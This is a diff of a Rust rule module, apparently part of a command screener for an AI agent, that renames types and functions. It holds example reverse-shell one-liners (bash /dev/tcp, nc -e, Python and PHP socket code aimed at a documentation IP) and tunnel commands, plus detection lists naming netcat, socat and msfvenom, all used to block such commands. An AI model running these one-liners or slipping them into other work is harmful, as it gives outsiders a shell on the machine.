@@ -1,6 +1,6 @@
 //! Shells for others, and ways in.
 
-use super::{Category, Check, Rule, Scene, Tier};
+use super::{Category, Check, Rule, RuleInput, Tier};
 use crate::{flatten::is_loopback, programs::SHELLS, shell::RedirectKind};
 
 pub(super) const RULES: &[Rule] = &[
@@ -10,7 +10,7 @@ pub(super) const RULES: &[Rule] = &[
         tier: Tier::Block,
         finds: "connects a shell to the network",
         instead: "Run commands here; nothing outside needs a shell on this machine.",
-        check: Check::Scene(shell),
+        check: Check::Command(reverse_shell),
         matches: &[
             "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
             "nc -e /bin/sh 203.0.113.9 4444",
@@ -32,7 +32,7 @@ pub(super) const RULES: &[Rule] = &[
         tier: Tier::Block,
         finds: "connects a shell to the network in a one-liner",
         instead: "Run commands here; nothing outside needs a shell on this machine.",
-        check: Check::Scene(code),
+        check: Check::Command(reverse_shell_code),
         matches: &[
             "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",99));os.dup2(s.fileno(),0)'",
             "php -r '$s=fsockopen(\"203.0.113.9\",99);exec(\"sh <&3 >&3\");'",
@@ -50,7 +50,7 @@ pub(super) const RULES: &[Rule] = &[
         tier: Tier::Block,
         finds: "opens a tunnel into or out of this machine",
         instead: "Use services on this machine only, and say if something must be reachable.",
-        check: Check::Scene(tunnel),
+        check: Check::Command(tunnel),
         matches: &[
             "ngrok http 3000",
             "cloudflared tunnel --url localhost:80",
@@ -63,12 +63,13 @@ pub(super) const RULES: &[Rule] = &[
     },
 ];
 
-fn shell(scene: &Scene<'_>) -> Option<String> {
-    let one = scene.one;
-    let listens_or_calls = one.is(&["nc", "ncat", "netcat", "pwncat", "rustcat", "rcat"])
-        && (one.has("e", &["exec", "sh-exec", "lua-exec"]) || (one.has("c", &[]) && !one.is_question()));
-    let runs = one.is(&["socat"])
-        && one.args.iter().any(|arg| {
+fn reverse_shell(input: &RuleInput<'_>) -> Option<String> {
+    let command = input.command;
+    let listens_or_calls = command.is(&["nc", "ncat", "netcat", "pwncat", "rustcat", "rcat"])
+        && (command.has("e", &["exec", "sh-exec", "lua-exec"])
+            || (command.has("c", &[]) && !command.asks_for_help()));
+    let runs = command.is(&["socat"])
+        && command.args.iter().any(|arg| {
             let upper = arg.to_uppercase();
             upper.starts_with("EXEC:") || upper.starts_with("SYSTEM:") || upper.starts_with("SHELL:")
         });
@@ -76,28 +77,28 @@ fn shell(scene: &Scene<'_>) -> Option<String> {
         let rest = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"));
         rest.is_some_and(|rest| !is_loopback(rest))
     };
-    let connected = (SHELLS.contains(&one.program.as_str()) || one.is(&["exec", ""]))
-        && one
+    let connected = (SHELLS.contains(&command.program.as_str()) || command.is(&["exec", ""]))
+        && command
             .redirects
             .iter()
             .any(|redirect| is_network(&redirect.path) && redirect.kind != RedirectKind::Here);
-    let feeds = SHELLS.contains(&one.program.as_str())
-        && one
-            .input
+    let feeds = SHELLS.contains(&command.program.as_str())
+        && command
+            .stdin
             .programs
             .iter()
             .any(|program| ["nc", "ncat", "socat", "telnet", "openssl"].contains(&program.as_str()));
-    let interactive = SHELLS.contains(&one.program.as_str())
-        && one.has("i", &[])
-        && one.is_piped
-        && one.input.programs.iter().any(|program| program == "cat");
-    let known = one.is(&["msfvenom", "msfconsole", "gs-netcat", "meterpreter", "xterm"])
-        && (one.program != "xterm" || one.has_word(&["-display"]));
-    scene.found_if(listens_or_calls || runs || connected || feeds || interactive || known)
+    let interactive = SHELLS.contains(&command.program.as_str())
+        && command.has("i", &[])
+        && command.is_piped
+        && command.stdin.programs.iter().any(|program| program == "cat");
+    let known = command.is(&["msfvenom", "msfconsole", "gs-netcat", "meterpreter", "xterm"])
+        && (command.program != "xterm" || command.has_word(&["-display"]));
+    input.found_if(listens_or_calls || runs || connected || feeds || interactive || known)
 }
 
-fn code(scene: &Scene<'_>) -> Option<String> {
-    let code = scene.one.code.as_deref()?;
+fn reverse_shell_code(input: &RuleInput<'_>) -> Option<String> {
+    let code = input.command.code.as_deref()?;
     let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
     let connects = has(&[
         "connect(",
@@ -127,7 +128,7 @@ fn code(scene: &Scene<'_>) -> Option<String> {
         "cmd.exe",
         "child_process",
     ]);
-    scene.found_if(
+    input.found_if(
         (connects && shells)
             || code.contains("/inet/tcp")
             || code.contains("/inet/udp")
@@ -135,12 +136,12 @@ fn code(scene: &Scene<'_>) -> Option<String> {
     )
 }
 
-fn tunnel(scene: &Scene<'_>) -> Option<String> {
-    let one = scene.one;
-    if one.is_question() {
+fn tunnel(input: &RuleInput<'_>) -> Option<String> {
+    let command = input.command;
+    if command.asks_for_help() {
         return None;
     }
-    let services = one.is(&[
+    let services = command.is(&[
         "ngrok",
         "localtunnel",
         "lt",
@@ -172,21 +173,21 @@ fn tunnel(scene: &Scene<'_>) -> Option<String> {
         "upterm",
         "vncserver",
         "x11vnc",
-    ]) && !one.args.is_empty();
-    let commands = one.runs(&[
+    ]) && !command.args.is_empty();
+    let commands = command.runs(&[
         "cloudflared tunnel|access",
         "tailscale funnel|serve|up|ssh",
         "devtunnel host|create",
         "code tunnel",
         "vscode tunnel",
     ]);
-    let ssh = one.is(&["ssh", "autossh", "plink"]) && one.has("RLDw", &[]) && forwards(scene);
-    scene.found_if(services || commands || ssh)
+    let ssh = command.is(&["ssh", "autossh", "plink"]) && command.has("RLDw", &[]) && forwards(input);
+    input.found_if(services || commands || ssh)
 }
 
 /// The letters are options of their own, not part of a value.
-fn forwards(scene: &Scene<'_>) -> bool {
-    scene.one.args.iter().any(|arg| {
+fn forwards(input: &RuleInput<'_>) -> bool {
+    input.command.args.iter().any(|arg| {
         let letters = arg.strip_prefix('-').filter(|rest| !rest.starts_with('-')).unwrap_or_default();
         let cluster: String = letters.chars().take_while(char::is_ascii_alphabetic).collect();
         cluster.chars().all(|letter| "fNnTtqvCAXYgRLDwk46aM".contains(letter))
